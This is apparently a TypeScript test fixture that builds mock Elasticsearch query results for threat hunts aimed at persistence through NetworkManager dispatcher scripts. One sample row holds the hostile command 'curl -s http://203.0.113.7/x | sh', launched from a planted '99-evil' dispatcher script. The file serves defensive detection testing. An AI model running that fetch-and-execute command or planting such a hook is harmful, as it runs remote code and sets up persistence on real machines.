import { esqlResponse } from '../../functions/local/elasticsearch-stand-in';

/** Column types as Elasticsearch reports them for the hunts' result rows. */
const TYPES: Record<string, string> = {
  event_count: 'long',
  agent_count: 'long',
  first_seen: 'date',
  last_seen: 'date',
  host_names: 'keyword',
  agent_ids: 'keyword',
};

/** Builds a `_query` response from row objects, with the columns in the given order. */
export function responseFor(columnOrder: string[], rows: Record<string, unknown>[], extra: { is_partial?: boolean } = {}) {
  return esqlResponse(
    columnOrder.map((name) => ({ name, type: TYPES[name] ?? 'keyword' })),
    rows.map((row) => columnOrder.map((name) => row[name] ?? null)),
    extra,
  );
}

export const CHILD_COLUMNS = ['event_count', 'agent_count', 'first_seen', 'last_seen', 'host_names', 'agent_ids', 'process.parent.executable', 'process.executable', 'process.command_line'];
export const WRITE_COLUMNS = ['event_count', 'agent_count', 'first_seen', 'last_seen', 'host_names', 'agent_ids', 'file.path', 'process.executable'];

export const childRow = (over: Record<string, unknown> = {}) => ({
  event_count: 2,
  agent_count: 1,
  first_seen: '2026-11-20T01:02:03.000Z',
  last_seen: '2026-11-24T01:02:03.000Z',
  host_names: 'web-01',
  agent_ids: 'agent-1',
  'process.parent.executable': '/etc/NetworkManager/dispatcher.d/99-evil',
  'process.executable': '/usr/bin/curl',
  'process.command_line': 'curl -s http://203.0.113.7/x | sh',
  ...over,
});

export const writeRow = (over: Record<string, unknown> = {}) => ({
  event_count: 1,
  agent_count: 1,
  first_seen: '2026-11-24T01:00:00.000Z',
  last_seen: '2026-11-24T01:00:00.000Z',
  host_names: ['web-01'],
  agent_ids: ['agent-1'],
  'file.path': '/etc/NetworkManager/dispatcher.d/99-evil',
  'process.executable': '/usr/bin/bash',
  ...over,
});
